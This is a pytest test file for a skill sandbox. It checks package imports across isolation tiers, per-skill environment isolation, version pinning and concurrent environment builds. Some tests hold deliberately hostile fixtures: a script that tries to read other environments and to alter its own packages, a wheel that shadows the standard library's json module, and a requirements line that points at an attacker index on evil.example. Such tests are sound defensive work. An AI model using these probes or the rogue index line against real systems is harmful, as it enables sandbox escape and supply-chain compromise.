"""Skills that import what they ask for, in every tier."""

from __future__ import annotations

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from gates import lets_all_pass
from package_index import PackageIndex, open_index
from sandbox_lab import require
from skill_files import make_skill
from skilllite_sandbox.environment.store import Environments
from skilllite_sandbox.errors import EnvironmentMissing, InvalidSkill
from skilllite_sandbox.host import find_program
from skilllite_sandbox.outcome import Outcome
from skilllite_sandbox.policy import Level, Policy, Tier
from skilllite_sandbox.sandbox import Job, Sandbox, entry_of

pytestmark = pytest.mark.skipif(find_program("bwrap") is None, reason="bubblewrap is not installed")

FIRST_RUNS = 10
FIRST_RUNS_S = 120.0  # an installation, on two busy cores

TIERS = [(Level.DIRECT, None), (Level.ISOLATED, Tier.BWRAP), (Level.ISOLATED, Tier.FULL)]


@pytest.fixture(scope="module")
def index() -> Iterator[PackageIndex]:
    with open_index() as opened:
        opened.add_wheel("greeting", "1.0", {"greeting/__init__.py": "text = 'hello'\n"})
        opened.add_wheel("other", "3.0", {"other.py": "text = 'not yours'\n"})
        opened.add_npm("greeting", "1.2.0", {"index.js": "module.exports = 'hello';"})
        yield opened


@pytest.fixture(scope="module")
def environments(index: PackageIndex, tmp_path_factory: pytest.TempPathFactory) -> Environments:
    return index.environments(tmp_path_factory.mktemp("cache") / "env")


def run(
    environments: Environments, skill: Path, level: Level = Level.ISOLATED, tier: Tier | None = None
) -> Outcome:
    with Sandbox(
        level, tier=tier, environments=environments, pool=False, gate=lets_all_pass()
    ) as sandbox:
        if tier is Tier.FULL and sandbox.probe.tier is not Tier.FULL:
            pytest.skip("this host has no tier full")
        return sandbox.run(skill, {})


def python_skill(folder: Path, script: str, name: str = "demo", wants: str = "greeting") -> Path:
    extra = f"compatibility: Requires Python 3.x with {wants} library\n"
    return make_skill(folder, name, extra=extra, files={"scripts/main.py": script})


@pytest.mark.parametrize(("level", "tier"), TIERS)
def test_a_python_skill_imports_its_package(
    environments: Environments, tmp_path: Path, level: Level, tier: Tier | None
) -> None:
    skill = python_skill(tmp_path, "import greeting, json; print(json.dumps(greeting.text))")

    outcome = run(environments, skill, level, tier)

    assert outcome.output == "hello", outcome.stderr


@pytest.mark.parametrize(("level", "tier"), TIERS)
def test_a_node_skill_requires_its_package(
    environments: Environments, tmp_path: Path, level: Level, tier: Tier | None
) -> None:
    require("node")
    extra = "compatibility: Requires Node.js with greeting package\n"
    files = {"scripts/main.js": 'console.log(JSON.stringify(require("greeting")))'}

    outcome = run(environments, make_skill(tmp_path, extra=extra, files=files), level, tier)

    assert outcome.output == "hello", outcome.stderr


@pytest.mark.parametrize(("level", "tier"), TIERS[1:])
def test_a_node_skill_imports_its_package(
    environments: Environments, tmp_path: Path, level: Level, tier: Tier | None
) -> None:
    require("node")
    extra = "compatibility: Requires Node.js with greeting package\n"
    script = 'import("greeting").then((m) => console.log(JSON.stringify(m.default)))'
    skill = make_skill(tmp_path, extra=extra, files={"scripts/main.js": script})

    assert run(environments, skill, level, tier).output == "hello"


SNOOP = """
import greeting, json, os, sys
packages = os.path.dirname(os.path.dirname(greeting.__file__))
def attempt(action):
    try:
        action()
    except OSError:
        return False
    return True
print(json.dumps({
    "list the others": attempt(lambda: os.listdir("/envs")),
    "read another": attempt(lambda: open("/envs/%s/site-packages/other.py").read()),
    "write into its own": attempt(lambda: open(packages + "/greeting/x.py", "w")),
    "remove from its own": attempt(lambda: os.unlink(packages + "/greeting/__init__.py")),
}))
"""


@pytest.mark.parametrize("tier", [Tier.BWRAP, Tier.FULL])
def test_a_skill_sees_its_own_environment_and_changes_none(
    environments: Environments, tmp_path: Path, tier: Tier
) -> None:
    theirs = python_skill(tmp_path, "import other; print(1)", "theirs", "other")
    assert run(environments, theirs, Level.ISOLATED, tier).ok
    (digest,) = (
        each.environment.digest
        for each in environments.list()
        if each.environment.packages[0].name == "other"
    )

    outcome = run(environments, python_skill(tmp_path, SNOOP % digest), Level.ISOLATED, tier)

    assert isinstance(outcome.output, dict), outcome.stderr
    assert not any(outcome.output.values()), outcome.output


def test_a_skill_without_packages_has_no_environment(
    environments: Environments, tmp_path: Path
) -> None:
    script = "import json, os; print(json.dumps(os.path.exists('/envs') or os.path.exists('/env')))"
    skill = make_skill(tmp_path, files={"scripts/main.py": script})

    assert run(environments, skill).output is False


def test_a_package_does_not_hide_the_standard_library(
    index: PackageIndex, environments: Environments, tmp_path: Path
) -> None:
    index.add_wheel("sly", "1.0", {"json.py": "raise SystemExit('taken over')\n", "sly.py": ""})

    outcome = run(environments, python_skill(tmp_path, "import sly, json; print(1)", wants="sly"))

    assert outcome.output == 1, outcome.stderr


def test_nothing_is_installed_for_who_may_not(
    index: PackageIndex, tmp_path: Path, environments: Environments
) -> None:
    fresh = index.environments(tmp_path / "env")
    skill = python_skill(tmp_path, "print(1)")
    asked = len(index.requested)
    with Sandbox(environments=fresh, pool=False, gate=lets_all_pass()) as sandbox:
        staged = sandbox.stage.put(skill)
        job = Job(staged, entry_of(staged), b"{}", Policy())

        with pytest.raises(EnvironmentMissing):
            sandbox.with_packages(job, may_install=False)

    assert len(index.requested) == asked and not (tmp_path / "env").exists()


def test_a_skill_that_names_an_index_of_its_own_is_refused(
    environments: Environments, tmp_path: Path
) -> None:
    files = {
        "scripts/main.py": "print(1)",
        "requirements.txt": "--index-url https://evil.example/simple\ngreeting\n",
    }

    with pytest.raises(InvalidSkill):
        run(environments, make_skill(tmp_path, files=files))


def test_a_lock_of_the_skill_decides_the_version(
    index: PackageIndex, environments: Environments, tmp_path: Path
) -> None:
    import hashlib

    for version in ("1.0", "2.0"):
        index.add_wheel("pinned", version, {"pinned.py": f"version = '{version}'\n"})
    content = index.files["/files/pinned-1.0-py3-none-any.whl"]
    lock = f"pinned==1.0 --hash=sha256:{hashlib.sha256(content).hexdigest()}\n"
    files = {
        "scripts/main.py": "import pinned, json; print(json.dumps(pinned.version))",
        "requirements.txt": lock,
    }

    assert run(environments, make_skill(tmp_path, files=files)).output == "1.0"


def test_ten_first_runs_at_once_build_one_environment_and_all_succeed(
    index: PackageIndex, tmp_path: Path
) -> None:
    index.add_wheel("popular", "1.0", {"popular.py": "text = 'there'\n"})
    fresh = index.environments(tmp_path / "env")
    script = "import popular, json; print(json.dumps(popular.text))"
    skills = [python_skill(tmp_path, script, f"skill-{n}", "popular") for n in range(3)]
    with (
        Sandbox(Level.ISOLATED, environments=fresh) as sandbox,
        ThreadPoolExecutor(FIRST_RUNS) as threads,
    ):
        started = [
            threads.submit(sandbox.run, skills[number % len(skills)], {})
            for number in range(FIRST_RUNS)
        ]
        outputs = [each.result(FIRST_RUNS_S).output for each in started]

    assert outputs == ["there"] * FIRST_RUNS
    assert index.downloads("popular-1.0-py3-none-any.whl") == 1
    assert len(fresh.list()) == 1
